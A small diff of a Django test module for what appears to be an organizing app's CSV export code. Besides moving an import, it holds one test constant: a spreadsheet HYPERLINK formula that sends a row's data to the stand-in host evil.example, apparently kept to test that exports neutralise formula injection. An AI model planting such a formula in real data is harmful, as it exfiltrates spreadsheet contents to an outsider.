@@ -13,10 +13,10 @@ from django.urls import reverse
 
 from turnout.actions.models import Form, Petition
 from turnout.core.exports import FORMULA_STARTS, as_typed, csv_lines, csv_writer, safe_cell
-from turnout.core.testing import TurnoutTestCase
 from turnout.organizing.models import Campaign, Employer, Unit, Workplace
 from turnout.people.importer import Importer
 from turnout.people.models import Person
+from turnout.site.testing import TurnoutTestCase
 
 # What an attacker types as a name: clicked in a spreadsheet, it sends the row to a stranger.
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
